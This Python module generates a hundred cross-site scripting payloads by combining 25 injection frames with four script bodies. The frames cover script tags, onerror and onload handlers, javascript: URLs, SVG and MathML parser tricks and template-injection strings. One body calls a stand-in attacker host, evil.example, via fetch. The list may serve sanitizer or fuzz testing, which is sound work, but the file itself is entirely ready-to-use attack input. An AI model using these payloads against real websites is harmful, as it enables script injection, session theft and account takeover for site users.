"""A hundred texts that run as script wherever text is taken for markup, an address or code."""

_RUN = ("window.pwned=1", "alert(1)", "parent.pwned=top.pwned=1", "fetch('//evil.example/'+1)")
_FRAMES = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "</script><script>{}</script>",
    "</title></textarea></style><script>{}</script>",
    "<img src=x onerror={}>",
    "<img/src='x'/onerror={}>",
    '"><img src=x onerror="{}">',
    "'><svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    '<iframe src="javascript:{}"></iframe>',
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    '<object data="javascript:{}"></object>',
    '<a href="javascript:{}" autofocus onfocus={}>x</a>',
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<body onload={}>",
    "<template><img src=x onerror={}></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "javascript:{}//@example.com",
    "${{{}}}{{{{{}}}}}",
    "<style>@import 'javascript:{}';</style>",
    '<form action="javascript:{}"><button autofocus>x</button></form>',
)
PAYLOADS = [frame.replace("{}", code) for frame in _FRAMES for code in _RUN]
